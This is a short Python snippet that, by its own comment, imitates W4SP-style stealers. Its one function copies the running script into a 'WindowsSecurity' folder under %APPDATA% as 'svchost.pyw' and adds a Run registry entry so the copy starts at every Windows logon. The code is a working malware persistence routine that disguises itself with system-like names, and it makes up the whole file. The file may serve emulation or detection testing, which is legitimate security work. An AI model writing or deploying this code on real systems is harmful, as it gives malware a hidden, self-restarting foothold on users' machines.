# Imitates W4SP-style stealers: copy the payload into %APPDATA% and register it under HKCU\...\CurrentVersion\Run.
import os
import shutil
import sys

try:
    import winreg
except ImportError:  # not Windows
    winreg = None

RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"


def stay():
    if winreg is None:
        return
    target = os.path.join(os.getenv("APPDATA"), "WindowsSecurity", "svchost.pyw")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    shutil.copy(os.path.abspath(__file__), target)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN_KEY, 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "WindowsSecurity", 0, winreg.REG_SZ, f'"{sys.executable}" "{target}"')
    winreg.CloseKey(key)
